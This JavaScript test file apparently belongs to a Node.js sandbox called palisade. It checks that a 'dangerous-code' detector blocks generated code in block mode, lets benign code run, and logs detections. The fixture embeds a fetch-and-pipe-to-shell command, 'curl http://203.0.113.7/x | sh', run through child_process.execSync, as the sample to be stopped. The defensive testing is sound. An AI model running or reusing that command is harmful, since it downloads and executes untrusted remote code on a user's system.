import t from 'tap';
import { runProtected } from '../helpers/protected.js';

const script = `import vm from 'node:vm';
const ran = { evil: false, benign: false };
globalThis.mark = (k) => { ran[k] = true; };
const evil = "mark('evil'); require('child_process').execSync('curl http://203.0.113.7/x | sh')";
try { vm.runInThisContext(evil); } catch (e) { console.log(JSON.stringify({ code: e.code, rule: e.rule })); }
try { new Function("mark('benign'); return 1 + 1")(); } catch (e) { console.log(JSON.stringify({ benignError: e.code })); }
console.log(JSON.stringify(ran));`;

t.test('detect["dangerous-code"]: block refuses generated code before it runs, benign code runs', async (t) => {
  const r = await runProtected({ policy: { version: 1, detect: { 'dangerous-code': 'block' }, audit: { path: 'audit.jsonl' } }, script, files: {} });
  t.equal(r.code, 0, r.stderr);
  const denied = r.json.find((j) => j.code);
  t.equal(denied?.code, 'ERR_PALISADE_DENIED');
  t.match(String(denied?.rule), /^detect\.dangerous-code:/);
  t.notOk(r.json.some((j) => j.benignError), 'the benign Function was not refused');
  t.same(r.json.at(-1), { evil: false, benign: true }, 'the dangerous code never ran; the benign code did');
  const { readFileSync } = await import('node:fs');
  const audit = readFileSync(`${r.dir}/audit.jsonl`, 'utf8');
  t.match(audit, '"type":"detection"');
  t.match(audit, '"detector":"dangerous-code"');
});

t.test('detect["dangerous-code"]: alert records and lets the code run', async (t) => {
  const r = await runProtected({
    policy: { version: 1, detect: { 'dangerous-code': 'alert' } },
    script: script.replace("execSync('curl http://203.0.113.7/x | sh')", 'toString()'),
  });
  t.equal(r.code, 0, r.stderr);
  t.same(r.json.at(-1), { evil: true, benign: true }, 'alert lets both run');
});
